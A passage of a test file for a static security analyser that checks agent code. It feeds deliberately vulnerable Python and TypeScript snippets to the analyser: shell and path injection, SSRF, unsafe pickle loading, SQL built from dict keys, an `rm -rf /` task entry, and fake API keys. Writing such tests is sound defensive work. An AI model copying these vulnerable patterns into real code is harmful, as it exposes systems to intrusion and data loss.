    const src = `import httpx
from fastapi import APIRouter, Request
router = APIRouter()
BASE = "https://api.anthropic.com"

@router.post("/v1/messages")
async def proxy(request: Request):
    url = f"{BASE}/v1/messages"
    if request.url.query:
        url = f"{url}?{request.url.query}"
    async with httpx.AsyncClient() as client:
        await client.post(url)
    target = "https://api.anthropic.com"
    if request.query_params.get("host"):
        target = f"https://{request.query_params['host']}"
    async with httpx.AsyncClient() as client:
        await client.post(target)
`;
    expect(await check('server/routes.py', src)).toEqual(['17 egress-untrusted-url high']);
  });

  it('the venv\'s interpreter, `python3` on PATH or the running one is a known program; a directory from a tool is reported as chosen (Python)', async () => {
    // the shape of letta's `find_python_executable`
    const src = `import os, platform, subprocess, sys
from langchain_core.tools import tool

def find_python(cfg) -> str:
    if not cfg.use_venv:
        return "python.exe" if platform.system().lower().startswith("win") else "python3"
    venv = os.path.join(cfg.sandbox_dir, cfg.venv_name)
    exe = os.path.join(venv, "Scripts", "python.exe") if platform.system().startswith("Win") else os.path.join(venv, "bin", "python3")
    return exe

def run(cfg, script):
    python = find_python(cfg) if cfg.local else sys.executable
    return subprocess.run([python, script], capture_output=True)

def find_in(venv):
    return os.path.join(venv, "Scripts", "python.exe") if platform.system().startswith("Win") else os.path.join(venv, "bin", "python3")

@tool
def run_in_venv(venv: str) -> str:
    """Run the checks in a virtual environment."""
    return subprocess.run([find_in(venv), "-m", "pytest"], capture_output=True).stdout
`;
    const found = await check('sandbox/local.py', src);
    expect(found).toEqual(['21 subprocess-dynamic-command critical']);
  });

  it('a return value across modules keeps the places a program was found in (Python)', async () => {
    const helper = `import os, platform

def find_python(cfg) -> str:
    if not cfg.use_venv:
        return "python3"
    venv = os.path.join(cfg.sandbox_dir, cfg.venv_name)
    return os.path.join(venv, "Scripts", "python.exe") if platform.system().startswith("Win") else os.path.join(venv, "bin", "python3")
`;
    const main = `import subprocess
from app.helpers import find_python

def run(cfg, script):
    return subprocess.run([find_python(cfg), script], capture_output=True)
`;
    expect(await checkProject({ 'app/helpers.py': helper, 'app/sandbox.py': main })).toEqual([]);
  });

  it('pickle or torch loading a file the program names itself is low; bytes of unknown origin and a path from a tool keep the rule\'s severity (Python)', async () => {
    const src = `import os, pickle, torch
from langchain_core.tools import tool

class Memory:
    def __init__(self, path_to_dict):
        self.path_to_dict = path_to_dict

    def load(self):
        with open(self.path_to_dict, "rb") as f:
            return pickle.load(f)

def load_model(model_checkpoint_path):
    return torch.load(model_checkpoint_path, map_location="cpu")

def from_wire(payload):
    return pickle.loads(payload)

@tool
def restore(path: str) -> str:
    """Restore saved state."""
    with open(path, "rb") as f:
        return str(pickle.load(f))
`;
    expect(await check('app/memory.py', src)).toEqual(['10 code-unsafe-deserialization low', '13 code-unsafe-deserialization low', '16 code-unsafe-deserialization high', '21 file-untrusted-path critical', '22 code-unsafe-deserialization critical']);
  });

  it('an unpickler class that overrides find_class is the documented restricted unpickler: low; a subclass without one keeps the rule\'s severity (Python)', async () => {
    // agent-framework's checkpoint decoding: `_RestrictedUnpickler(pickled, allowed_types).load()`
    const src = `import io, pickle

class RestrictedUnpickler(pickle.Unpickler):
    def __init__(self, data: bytes, allowed: frozenset[str]) -> None:
        super().__init__(io.BytesIO(data))
        self._allowed = allowed

    def find_class(self, module: str, name: str):
        if f"{module}:{name}" not in self._allowed:
            raise pickle.UnpicklingError(f"{module}:{name} is not allowed")
        return super().find_class(module, name)

class PlainUnpickler(pickle.Unpickler):
    def __init__(self, data: bytes) -> None:
        super().__init__(io.BytesIO(data))

def decode(data: bytes, allowed: frozenset[str]):
    return RestrictedUnpickler(data, allowed).load()
`;
    expect(await check('app/checkpoint.py', src)).toEqual(['5 code-unsafe-deserialization low', '15 code-unsafe-deserialization high']);
  });

  it('what an HTTP API returns to a body sent to its fixed host is not chosen by that body; a URL that chose it still carries its taint (Python and TypeScript)', async () => {
    // the shape of khoj's Replicate image generation
    const py = `import requests
from langchain_core.tools import tool

@tool
def make_image(prompt: str, url: str) -> bytes:
    """Make an image."""
    created = requests.post("https://api.replicate.com/v1/predictions", json={"input": {"prompt": prompt}}).json()
    status = requests.get(created["urls"]["get"]).json()
    return requests.get(url).content

@tool
def follow(host: str) -> bytes:
    """Follow a page's link."""
    page = requests.get(f"https://{host}/index.json").json()
    return requests.get(page["next"]).content
`;
    expect(await check('app/images.py', py)).toEqual(['9 egress-untrusted-url critical', '14 egress-untrusted-url critical']);
    const ts = `import { tool } from 'ai';
import { z } from 'zod';
export const image = tool({
  description: 'make an image',
  parameters: z.object({ prompt: z.string(), url: z.string() }),
  execute: async ({ prompt, url }) => {
    const created = await (await fetch('https://api.replicate.com/v1/predictions', { method: 'POST', body: JSON.stringify({ prompt }) })).json();
    await fetch(created.urls.get);
    return fetch(url);
  },
});
`;
    expect(await check('src/image.ts', ts)).toEqual(['9 egress-untrusted-url critical']);
  });

  it('`request.user` is the signed-in account the server loaded, not request input; the request\'s own fields still are (Python)', async () => {
    // the shape of khoj's audio upload
    const src = `import os, uuid
from fastapi import APIRouter, Request
router = APIRouter()

@router.post("/transcribe")
async def transcribe(request: Request):
    user = request.user.object
    name = f"{user.uuid}-{uuid.uuid4()}.webm"
    with open(name, "wb") as f:
        f.write(b"")
    os.remove(name)
    os.remove(request.query_params["name"])
`;
    expect(await check('server/api.py', src)).toEqual(['12 file-untrusted-path high']);
  });

  it('a process id spliced into a fixed shell line is a number (TypeScript and Python)', async () => {
    const ts = `import { execSync, spawn } from 'node:child_process';
export function stop(cmd: string) {
  const child = spawn('node', ['server.js']);
  execSync(\`taskkill /pid \${child.pid} /f /t\`);
  execSync(\`kill \${cmd}\`);
}
`;
    expect(await check('src/hooks.ts', ts)).toEqual(['4 subprocess-shell low', '5 subprocess-shell medium']);
    const py = `import os, subprocess
def stop(p):
    proc = subprocess.Popen(["node", "server.js"])
    os.system(f"kill -9 {proc.pid}")
`;
    expect(await check('app/stop.py', py)).toEqual(['4 subprocess-shell low']);
  });

  it('a whole shell line from the environment the operator sets is low (TypeScript)', async () => {
    // the shape of gemini-cli's sandbox proxy command
    const src = `import { spawn } from 'node:child_process';
export function startProxy(line: string) {
  const proxyCommand = process.env['SANDBOX_PROXY_COMMAND'];
  if (proxyCommand) spawn(proxyCommand, { shell: true, detached: true });
  spawn(line, { shell: true });
}
`;
    expect(await check('src/sandbox.ts', src)).toEqual(['4 subprocess-shell low', '5 subprocess-shell high']);
  });

  it('a package of test helpers is test code; a database set-up script is a migration', async () => {
    const { classifyContext } = await import('../../src/analysis/contexts.js');
    expect(classifyContext('packages/test-utils/src/test-rig.ts')).toBe('test');
    expect(classifyContext('lib/test_helpers/db.py')).toBe('test');
    expect(classifyContext('init.sql')).toBe('migration');
    expect(classifyContext('db/schema.sql')).toBe('migration');
    expect(classifyContext('docker/docker-entrypoint-initdb.d/01-tables.sql')).toBe('migration');
    expect(classifyContext('app/queries.sql')).toBe('production');
    expect(classifyContext('packages/utils/src/test.ts')).toBe('test');
    expect(classifyContext('src/testimonials/render.ts')).toBe('production');
  });

  it('a setting read from a parameter named for settings (`config.mermaid.path` of `def render(config)`) is configuration, as in JavaScript; tool input is not (Python)', async () => {
    // the shape of MetaGPT's mermaid rendering
    const src = `import os
from langchain_core.tools import tool

def render(code, config=None):
    config = config if config else load_default()
    os.system("command -v " + config.mermaid.path)

@tool
def render_tool(target: str) -> str:
    """Render with a program."""
    os.system("command -v " + target)
    return "ok"
`;
    expect(await check('app/mermaid.py', src)).toEqual(['6 subprocess-shell low', '11 subprocess-shell critical']);
  });

  it('a setting of the project\'s settings object (`from app.config import settings`) is the operator\'s choice (Python)', async () => {
    const helper = `import os
def exists(command):
    return os.system("command -v " + command + " >/dev/null 2>&1")
`;
    const main = `from app.config import settings
from app.common import exists

def ready():
    return exists(settings.mermaid_path) == 0
`;
    expect(await checkProject({ 'app/common.py': helper, 'app/render.py': main })).toEqual(['app/common.py 3 subprocess-shell low']);
  });
});

describe('agent code not used for tuning, thirteenth round: a program the code finds or builds itself', () => {
  it('a binary a helper of its own locates is low; one named in a JSON file read at run time, or chosen by a tool, keeps its grade (TypeScript)', async () => {
    // the shape of gemini-cli's `gemma start`
    const src = `import { spawn } from 'node:child_process';
import fs from 'node:fs';
import { tool } from 'ai';
import { z } from 'zod';
import { getBinaryPath } from './platform.js';
export function start(port: number) {
  const binaryPath = getBinaryPath();
  spawn(binaryPath, ['serve', \`--port=\${port}\`]);
  const server = JSON.parse(fs.readFileSync('.mcp.json', 'utf8')).command;
  spawn(server, []);
}
export async function fromDb(db: { findOne(q: object): Promise<{ program: string }> }) {
  const row = await db.findOne({ name: 'runner' });
  spawn(row.program, []);
}
export const run = tool({
  description: 'Run a program',
  parameters: z.object({ program: z.string() }),
  execute: async ({ program }) => spawn(program, []),
});
`;
    expect(await check('src/gemma/start.ts', src)).toEqual(['8 subprocess-dynamic-command low', '10 subprocess-dynamic-command medium', '14 subprocess-dynamic-command low', '19 subprocess-dynamic-command critical']);
  });
});

describe('agent code not used for tuning, fourteenth round', () => {
  it('a helper named for its containment test (`is_path_inside(p, root)`) guards the path; a helper named otherwise does not (Python)', async () => {
    // the shape of chainlit's public-file route
    const src = `from pathlib import Path
from fastapi import APIRouter, HTTPException
from fastapi.responses import FileResponse
from app._utils import is_path_inside, looks_fine
router = APIRouter()

@router.get("/public/{filename:path}")
async def serve_public_file(filename: str):
    base = Path("public")
    file_path = (base / filename).resolve()
    if not is_path_inside(file_path, base):
        raise HTTPException(status_code=400)
    return FileResponse(file_path)

@router.get("/other/{filename:path}")
async def serve_other(filename: str):
    file_path = (Path("other") / filename).resolve()
    if not looks_fine(file_path):
        raise HTTPException(status_code=400)
    return FileResponse(file_path)
`;
    expect(await check('app/server.py', src)).toEqual(['20 file-untrusted-path high']);
  });

  it('forking the program\'s own script (`process.argv[1]`) is the operator\'s choice, low; a script from a tool is not (TypeScript)', async () => {
    // the shape of continue's review worker
    const src = `import { fork } from 'node:child_process';
import { tool } from 'ai';
import { z } from 'zod';
export function review() {
  const workerPath = process.argv[1];
  return fork(workerPath, ['--internal-review-worker']);
}
export const run = tool({
  description: 'Run a worker',
  parameters: z.object({ script: z.string() }),
  execute: async ({ script }) => fork(script, []),
});
`;
    expect(await check('src/commands/review.ts', src)).toEqual(['6 subprocess-dynamic-command low', '11 subprocess-dynamic-command critical']);
  });

  it('column names from the keys of a dict the function writes out (filtered by a comprehension) are its own constants; keys of a caller\'s dict are not (Python)', async () => {
    // the shape of chainlit's SQLAlchemy data layer
    const src = `import json
from sqlalchemy import text

class Layer:
    async def update_thread(self, thread_id, name, meta):
        data = {"id": thread_id, "name": name, "metadata": json.dumps(meta)}
        parameters = {key: value for key, value in data.items() if value is not None}
        columns = ", ".join(f'"{key}"' for key in parameters.keys())
        values = ", ".join(f":{key}" for key in parameters.keys())
        await self.execute_sql(f"INSERT INTO threads ({columns}) VALUES ({values})", parameters)

    async def create_step(self, step_dict):
        parameters = {key: value for key, value in step_dict.items() if value is not None}
        columns = ", ".join(f'"{key}"' for key in parameters.keys())
        values = ", ".join(f":{key}" for key in parameters.keys())
        await self.execute_sql(f"INSERT INTO steps ({columns}) VALUES ({values})", parameters)

    async def execute_sql(self, query, parameters):
        async with self.engine.begin() as conn:
            return await conn.execute(text(query), parameters)
`;
    const found = await check('app/data/sql_layer.py', src);
    expect(found.filter((f) => !f.endsWith(' low'))).toEqual(['16 sql-injection medium']);
  });

  it('an editor command from the module\'s own table of tables, picked by a key and a `find` over its list, is one of those programs; a table mixing in `rm` picked by a tool is still reported (TypeScript)', async () => {
    // the shape of gemini-cli's editor.ts
    const src = `import { execSync, spawnSync } from 'node:child_process';
import { tool } from 'ai';
import { z } from 'zod';
const editorCommands: Record<string, { win32: string[]; default: string[] }> = {
  vscode: { win32: ['code.cmd'], default: ['code'] },
  vim: { win32: ['vim'], default: ['vim'] },
  zed: { win32: ['zed'], default: ['zed', 'zeditor'] },
};
function exists(cmd: string): boolean {
  try {
    execSync(\`command -v \${cmd}\`, { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}
export function editorCommand(editor: string): string {
  const commands = process.platform === 'win32' ? editorCommands[editor].win32 : editorCommands[editor].default;
  return commands.slice(0, -1).find((cmd) => exists(cmd)) || commands[commands.length - 1];
}
export function version(editor: string) {
  return spawnSync(editorCommand(editor), ['--version']);
}
const ANY: Record<string, string[]> = { lint: ['eslint'], wipe: ['rm', '-rf', '/'] };
export const run = tool({
  description: 'Run a task',
  parameters: z.object({ task: z.string() }),
  execute: async ({ task }) => spawnSync(ANY[task][0], ANY[task].slice(1)),
});
`;
    const found = await check('src/utils/editor.ts', src);
    expect(found.filter((f) => !f.endsWith(' low'))).toEqual(['28 subprocess-dynamic-command medium']);
    expect(found).toContain('11 subprocess-shell low');
  });

  it('`*.vitest.ts` files and a `manual-testing-sandbox/` folder are tests', async () => {
    const { classifyContext } = await import('../../src/analysis/contexts.js');
    expect(classifyContext('core/util/sanitization.vitest.ts')).toBe('test');
    expect(classifyContext('manual-testing-sandbox/claude_desktop_config.json')).toBe('test');
    expect(classifyContext('core/util/sanitization.ts')).toBe('production');
  });
});

describe('agent code not used for tuning, fifteenth round', () => {
  it('`try: p.relative_to(root) except ValueError: raise` and `if ".." in name or name.startswith("/"): raise` guard a path; a try that goes on does not (Python)', async () => {
    // the shapes of ChatDev's tool upload and workflow rename routes
    const src = `from pathlib import Path
from fastapi import APIRouter, HTTPException
router = APIRouter()
ROOT = Path("tools").resolve()

@router.post("/tools/{name}")
def create_tool(name: str, content: str):
    target = (ROOT / name).resolve()
    try:
        target.relative_to(ROOT)
    except ValueError:
        raise HTTPException(status_code=400)
    target.write_text(content)

@router.post("/rename/{name}")
def rename(name: str, content: str):
    if ".." in name or name.startswith(("/", "\\\\")):
        raise HTTPException(status_code=400)
    (ROOT / name).write_text(content)

@router.post("/loose")
def loose(name: str, content: str):
    target = (ROOT / name).resolve()
    try:
        target.relative_to(ROOT)
    except ValueError:
        pass
    target.write_text(content)
`;
    expect(await check('server/routes/tools.py', src)).toEqual(['28 file-untrusted-path high']);
  });

  it("`p.relative_to(root)` outside a try raises unless p lies under root, as a statement or assigned; `is_relative_to` alone checks nothing (Python)", async () => {
    // the shape of a path service's resolve method (deer-flow's, without its try)
    const src = `from pathlib import Path
from fastapi import APIRouter
router = APIRouter()
ROOT = Path("data").resolve()

@router.post("/a/{name:path}")
def bare(name: str, content: str):
    target = (ROOT / name).resolve()
    target.relative_to(ROOT)
    target.write_text(content)

@router.post("/b/{name:path}")
def assigned(name: str, content: str):
    target = (ROOT / name).resolve()
    shown = target.relative_to(ROOT)
    print(shown)
    target.write_text(content)

@router.post("/c/{name:path}")
def asked(name: str, content: str):
    target = (ROOT / name).resolve()
    target.is_relative_to(ROOT)
    target.write_text(content)
`;
    expect(await check('server/routes/files.py', src)).toEqual(['23 file-untrusted-path high']);
  });

  it('`sys.executable or "python3"` is a known program (Python)', async () => {
    const src = `import subprocess, sys

def run(script_path):
    cmd = [sys.executable or "python3", script_path]
    return subprocess.run(cmd, capture_output=True)
`;
    expect(await check('functions/code_executor.py', src)).toEqual([]);
  });
});

describe('agent code not used for tuning, fifteenth round: a prompt marker and type tests', () => {
  it('a prompt marker with a line break bound to a name with `token` is not a credential; a key on one line still is (Python)', async () => {
    // the shape of Qwen-Agent's ReAct parser
    const src = `special_obs_token = '\\nObservation:'
special_func_token = "\\nAction:"
api_token = "tk9Qz7LmX2pR4vB8nW3y"
`;
    expect(await check('agent/react_chat.py', src)).toEqual(['3 hardcoded-secret high']);
  });

  it('vitest type-test files (`*.spec-d.ts`, `*.test-d.ts`) are tests', async () => {
    const { classifyContext } = await import('../../src/analysis/contexts.js');
    expect(classifyContext('packages/core/src/agent/agent.spec-d.ts')).toBe('test');
    expect(classifyContext('src/types.test-d.ts')).toBe('test');
    expect(classifyContext('src/spec-driven.ts')).toBe('production');
  });
});

describe('agent code not used for tuning, fifteenth round: typed parameters', () => {
  it('a route parameter annotated `int` (FastAPI refuses anything else) is a number; a `str` one is request input (Python)', async () => {
    // the shape of magentic-ui's upload route
    const src = `from pathlib import Path
from fastapi import APIRouter
router = APIRouter()

@router.post("/runs/{run_id}/upload")
async def upload(run_id: int, name: str):
    Path(f"runs/{run_id}/input.bin").write_bytes(b"")
    Path(f"runs/{name}/input.bin").write_bytes(b"")

@router.get("/page")
async def page(limit: Optional[int] = None, offset: int | None = None):
    return open(f"pages/{limit}-{offset}.json").read()
`;
    expect(await check('server/routes/runs.py', src)).toEqual(['8 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning: a shell on Windows only', () => {
  it('`shell: process.platform === "win32"` with the program\'s own command is judged as argv; a tool\'s input in the arguments keeps the finding (TypeScript and Python)', async () => {
    const ts = `import { spawn } from 'node:child_process';
import { tool } from 'ai';
import { z } from 'zod';
const EDITORS: Record<string, string> = { vscode: 'code', vim: 'vim' };
export function openEditor(editor: string, file: string) {
  return spawn(EDITORS[editor] ?? 'code', ['--wait', file], { shell: process.platform === 'win32' });
}
export const open = tool({
  description: 'Open a file',
  parameters: z.object({ file: z.string() }),
  execute: async ({ file }) => spawn('code', ['--wait', file], { shell: process.platform === 'win32' }),
});
export function dynamic(cmd: string, useShell: boolean) {
  return spawn(cmd, [], { shell: useShell });
}
`;
    const found = await check('src/editor.ts', ts);
    expect(found.filter((f) => !f.endsWith(' low'))).toEqual(['11 subprocess-shell medium', '14 subprocess-shell medium']);
    const py = `import os, subprocess
def fmt(path):
    return subprocess.run(["npx", "prettier", "--write", path], shell=os.name == "nt")
`;
    expect((await check('app/fmt.py', py)).filter((f) => !f.endsWith(' low'))).toEqual([]);
  });
});

describe('agent code not used for tuning, seventeenth round: contexts and an injected runtime', () => {
  it('shell scripts in a docker/ folder and pre/post-install scripts are scripts; community use cases and *.example.json are examples; an application\'s usecases/ layer is production', async () => {
    const { classifyContext } = await import('../../src/analysis/contexts.js');
    expect(classifyContext('docker/run/fs/exe/initialize.sh')).toBe('script');
    expect(classifyContext('docker/base/fs/ins/after_install.sh')).toBe('script');
    expect(classifyContext('post_install.sh')).toBe('script');
    expect(classifyContext('docker/run/fs/exe/self_update_manager.py')).toBe('production');
    expect(classifyContext('community_usecase/Airbnb-MCP/mcp_servers_config.json')).toBe('example');
    expect(classifyContext('extensions_config.example.json')).toBe('example');
    expect(classifyContext('app/usecases/create_user.py')).toBe('production');
  });

  it('a tool\'s `runtime` parameter is the framework\'s injected runtime, not the model\'s input (Python)', async () => {
    // the shape of deer-flow's list_uploaded_files tool
    const src = `import os
from langchain_core.tools import tool

@tool
def list_uploaded_files(runtime, folder: str) -> str:
    """List the uploaded files."""
    uploads = runtime.state["thread_data"]["uploads_path"]
    os.makedirs(uploads, exist_ok=True)
    return str(os.listdir(folder))
`;
    expect(await check('tools/list_uploaded_files.py', src)).toEqual(['9 file-untrusted-path critical']);
  });
});

describe('agent code not used for tuning, seventeenth round: a URL from the root of a base', () => {
  it('`new URL(`/api/${path}`, BASE)` keeps the base\'s origin; a path that may be a whole URL or `//host` does not (TypeScript)', async () => {
    // the shape of deer-flow's memory proxy route
    const src = `import type { NextRequest } from 'next/server';
const BACKEND = process.env.BACKEND_URL ?? 'http://127.0.0.1:8001';
export async function GET(request: NextRequest, { params }: { params: Promise<{ path: string[] }> }) {
  const p = (await params).path.join('/');
  await fetch(new URL(\`/api/memory/\${p}\`, BACKEND));
  await fetch(new URL(p, BACKEND));
  return fetch(new URL(\`//\${p}\`, BACKEND));
}
`;
    expect(await check('app/api/memory/[...path]/route.ts', src)).toEqual(['6 egress-untrusted-url high', '7 egress-untrusted-url high']);
  });
});

describe('agent code not used for tuning, seventeenth round: validators that refuse', () => {
  it('after `ensure_safe_support_path(name, path)` (also through `to_thread`) or `name = validate_skill_name(name)` the names are checked; a sanitizer that returns a copy leaves the original as it was (Python)', async () => {
    // the shape of deer-flow's skill_manage tool
    const src = `import asyncio
from pathlib import Path
from langchain_core.tools import tool
from app.storage import SkillStorage, ensure_safe_support_path, sanitize_path

@tool
async def skill_manage(name: str, path: str, content: str) -> str:
    """Write a file of a skill."""
    name = SkillStorage.validate_skill_name(name)
    await asyncio.to_thread(ensure_safe_support_path, name, path)
    (Path("skills") / name / path).write_text(content)
    return "ok"

@tool
def skill_copy(path: str, content: str) -> str:
    """Copy a file of a skill."""
    clean = sanitize_path(path)
    Path(clean).write_text(content)
    Path(path).write_text(content)
    return "ok"
`;
    expect(await check('tools/skill_manage_tool.py', src)).toEqual(['19 file-untrusted-path critical']);
  });
});

describe('agent code not used for tuning, eighteenth round: members of an options object', () => {
  it('a helper reading `options.root` or a destructured `{ root }` gets what the caller put in that member, not every member of the object (TypeScript)', async () => {
    // the shape of mcp-use's usage telemetry: a request-derived key beside the server's own directory
    const src = `import express from 'express';
import fs from 'node:fs';
const ROOT = '/srv/app';
function persist(options: { key: string; root?: string }) {
  fs.writeFileSync(\`\${options.root}/usage.json\`, options.key);
}
function persistTo({ key, root }: { key: string; root: string }) {
  fs.writeFileSync(\`\${root}/usage.json\`, key);
}
const app = express();
app.post('/track', (req, res) => {
  persist({ key: JSON.stringify(req.body), root: ROOT });
  persistTo({ key: req.body.client, root: ROOT });
  persist({ key: 'x', root: req.body.dir });
  persistTo({ key: 'x', root: req.query.dir as string });
  res.end();
});
`;
    expect(await check('src/usage.ts', src)).toEqual(['5 file-untrusted-path high', '8 file-untrusted-path high']);
    const r = await analyzeFile({ rel: 'src/usage.ts', text: src, language: 'typescript' }, activeRules(rules, defaultConfig('/p')), defaultConfig('/p'));
    // each finding is traced to the call that put request input in `root`
    expect(r.findings.map((f) => f.trace?.map((t) => t.line))).toEqual([[14, 14, 5], [15, 15, 8]]);
  });
});

describe('agent code not used for tuning, eighteenth round: checks named for what they test', () => {
  it('`if (!isWithin(root, p)) throw` and `if (!(await isSafeProxyTarget(url))) return` check what they are handed; an unchecked path or URL is still found, and so is the result of the file\'s own `validateUrl`, which is judged by what it does, not by its name (JavaScript)', async () => {
    // the shapes of anything-llm's document endpoints and mcp-use's inspector proxy
    const src = `const fs = require('fs');
const path = require('path');
const { isWithin } = require('../utils/files');
const documentsPath = path.resolve(__dirname, 'storage');
async function validateUrl(value) {
  const url = new URL(value);
  if (await resolvesToPrivateAddress(url.hostname)) return { error: 'private' };
  return { url };
}
async function isSafeProxyTarget(value) {
  return !('error' in (await validateUrl(value)));
}
const app = require('express')();
{
  app.post('/document/create-folder', async (request, response) => {
    const storagePath = path.join(documentsPath, request.body.name);
    if (!isWithin(documentsPath, storagePath)) throw new Error('Invalid folder name.');
    fs.mkdirSync(storagePath, { recursive: true });
    fs.mkdirSync(path.join(documentsPath, request.body.other));
    response.end();
  });
  app.get('/proxy', async (request, response) => {
    const target = request.get('X-Target-URL');
    if (!(await isSafeProxyTarget(target))) return response.status(403).end();
    await fetch(target);
    const checked = await validateUrl(request.query.url);
    if ('error' in checked) return response.status(400).end();
    await fetch(checked.url);
    await fetch(request.query.other);
    response.end();
  });
}
module.exports = { app };
`;
    expect(await check('server/endpoints/document.js', src)).toEqual(['19 file-untrusted-path high', '28 egress-untrusted-url high', '29 egress-untrusted-url high']);
  });

  it('`if not is_safe_url(url): raise` checks the URL; a URL nobody checked is still found (Python)', async () => {
    const src = `import requests
from langchain_core.tools import tool
from .net import is_safe_url

@tool
def fetch_page(url: str, other: str) -> str:
    """Fetch a page."""
    if not is_safe_url(url):
        raise ValueError("blocked")
    requests.get(url)
    return requests.get(other).text
`;
    expect(await check('agent/tools.py', src)).toEqual(['11 egress-untrusted-url critical']);
  });
});

describe('agent code not used for tuning, eighteenth round: translations and placeholders', () => {
  it('a translation table\'s words are not credentials; a provider key written there still is (JavaScript)', async () => {
    // the shape of anything-llm's frontend/src/locales/*/common.js
    const src = `const TRANSLATIONS = {
  onboarding: {
    instancePassword: "Instansadgangskode",
    "placeholder-password": "Adgangskode",
  },
  leaked: "ghp_4fG7hJ2kL9mN3pQ5rS8tU1vW6xY0zA2bC4dE",
};
export default TRANSLATIONS;
`;
    expect(await check('frontend/src/locales/da/common.js', src)).toEqual(['6 hardcoded-secret high']);
    // the same words outside a translation folder are still judged by their names
    expect(await check('frontend/src/settings/common.js', src)).toEqual(['3 hardcoded-secret high', '4 hardcoded-secret high', '6 hardcoded-secret high']);
  });

  it('`sk-ant-your-anthropic-api-key-here` is a placeholder; a key of that format is not', async () => {
    const src = 'ANTHROPIC_API_KEY = "sk-ant-your-anthropic-api-key-here"\nREAL = "sk-ant-api03-4fG7hJ2kL9mN3pQ5rS8tU1vW6xY0zA2bC4dE6fG8hJ0kL2mN"\n';
    expect(await check('agent/settings.py', src)).toEqual(['2 hardcoded-secret high']);
  });
});

describe('agent code not used for tuning, eighteenth round: a coding agent\'s extension tools', () => {
  it('`pi.registerTool({ execute(toolCallId, params) })`: the second parameter is the model\'s arguments (TypeScript)', async () => {
    // the shape of anything-llm's open-computer desktop-apps extension
    const src = `import type { ExtensionAPI } from "@earendil-works/pi-coding-agent";
import { Type } from "typebox";
import { execFileSync } from "child_process";

export default function (pi: ExtensionAPI) {
  pi.registerTool({
    name: "list_apps",
    description: "Search installed apps",
    parameters: Type.Object({ query: Type.Optional(Type.String()) }),
    async execute(_toolCallId, params, _signal) {
      const cmd = \`find /usr/share/applications -name '*.desktop' | xargs grep -li "Name=.*\${params.query}"\`;
      return execFileSync("bash", ["-c", cmd], { encoding: "utf8" });
    },
  });
}
`;
    expect(await check('services/extensions/desktop-apps.ts', src)).toEqual(['12 subprocess-shell critical']);
  });
});

describe('agent code not used for tuning, eighteenth round: digests', () => {
  it('a file named by a digest or a name-based UUID of request input stays in its directory; the raw name does not (JavaScript)', async () => {
    // the shape of anything-llm's vector cache lookup
    const src = `const fs = require('fs');
const path = require('path');
const crypto = require('crypto');
const { v5: uuidv5 } = require('uuid');
const app = require('express')();
const vectorCachePath = path.resolve(__dirname, 'vector-cache');
app.get('/cached', (req, res) => {
  const digest = uuidv5(req.query.name, uuidv5.URL);
  const hashed = crypto.createHash('sha256').update(req.query.name).digest('hex');
  res.send([
    fs.readFileSync(path.resolve(vectorCachePath, \`\${digest}.json\`), 'utf8'),
    fs.readFileSync(path.resolve(vectorCachePath, \`\${hashed}.json\`), 'utf8'),
    fs.readFileSync(path.resolve(vectorCachePath, \`\${req.query.name}.json\`), 'utf8'),
  ]);
});
module.exports = { app };
`;
    expect(await check('server/utils/files/index.js', src)).toEqual(['13 file-untrusted-path high']);
  });

  it('the same in Python: hashlib and uuid5', async () => {
    const src = `import hashlib
import uuid
from pathlib import Path
from langchain_core.tools import tool

@tool
def cached(name: str) -> str:
    """Read a cached answer."""
    a = Path("cache") / (hashlib.sha256(name.encode()).hexdigest() + ".json")
    b = Path("cache") / f"{uuid.uuid5(uuid.NAMESPACE_URL, name)}.json"
    return a.read_text() + b.read_text() + (Path("cache") / name).read_text()
`;
    expect(await check('agent/cache.py', src)).toEqual(['11 file-untrusted-path critical']);
  });
});

describe('agent code not used for tuning, eighteenth round: members of an options dict', () => {
  it('a helper reading `options["root"]` gets what the caller put under that key, not every entry of the dict (Python)', async () => {
    const src = `from flask import Flask, request
app = Flask(__name__)
ROOT = "/srv/app"

def _persist(options):
    with open(options["root"] + "/usage.json", "w") as f:
        f.write(options["key"])

@app.post("/track")
def track():
    _persist({"key": request.form["client"], "root": ROOT})
    _persist({"key": "x", "root": request.args["dir"]})
    return "ok"
`;
    expect(await check('app/usage.py', src)).toEqual(['6 file-untrusted-path high']);
    const r = await analyzeFile({ rel: 'app/usage.py', text: src, language: 'python' }, activeRules(rules, defaultConfig('/p')), defaultConfig('/p'));
    expect(r.findings.map((f) => f.trace?.map((t) => t.line))).toEqual([[12, 12, 6]]);
  });
});

describe('agent code not used for tuning, eighteenth round: a member of what a helper returned', () => {
  it('a helper that hands back its parameter does not make `resolved.command` a member of the caller\'s argument (TypeScript)', async () => {
    // the shape of mcp-use's open-browser: the program is one of three constants the helper returns
    const src = `import { execFile } from "node:child_process";
function resolveBrowserCommand(value: string): { command: string; args: string[] } | undefined {
  if (!value.startsWith("https://")) return undefined;
  if (process.platform === "darwin") return { command: "open", args: [value] };
  return { command: "xdg-open", args: [value] };
}
export function openBrowser(value: string): void {
  const resolved = resolveBrowserCommand(value);
  if (!resolved) return;
  execFile(resolved.command, resolved.args, () => {});
}
`;
    const facts = await factsFor('src/cli/open-browser.ts', src, 'typescript');
    const call = facts.calls.find((c) => c.callee === 'child_process.execFile');
    expect(call).toBeDefined();
    expect(call!.args[0]!.taint?.some((t) => t.field !== undefined)).toBe(false);
  });
});

describe('agent code not used for tuning, nineteenth round: validated ids, extensions and settings passed by name', () => {
  it('`if (!validateStoreId(id)) return` keeps the id one path segment; an id nobody validated is still found (TypeScript)', async () => {
    // the shape of the MCP inspector's storage routes
    const src = `import { Hono } from "hono";
import fs from "node:fs/promises";
import path from "node:path";
import { validateStoreId } from "./store-id.js";
const app = new Hono();
const storageDir = "/var/lib/inspector";
app.post("/api/storage/:storeId", async (c) => {
  const storeId = c.req.param("storeId");
  if (!storeId || !validateStoreId(storeId)) return c.json({ error: "Invalid storeId" }, 400);
  await fs.writeFile(path.join(storageDir, \`\${storeId}.json\`), "{}");
  await fs.writeFile(path.join(storageDir, \`\${c.req.param("other")}.json\`), "{}");
  return c.json({ ok: true });
});
export default app;
`;
    expect(await check('core/mcp/remote/node/server.ts', src)).toEqual(['11 file-untrusted-path high']);
  });

  it('an upload kept under a fresh name with the extension of the sent one stays in its folder (Python and JavaScript)', async () => {
    const py = `import os
import uuid
from fastapi import APIRouter, UploadFile
router = APIRouter()

@router.post("/upload")
async def upload(file: UploadFile):
    name = uuid.uuid4().hex + os.path.splitext(file.filename)[-1]
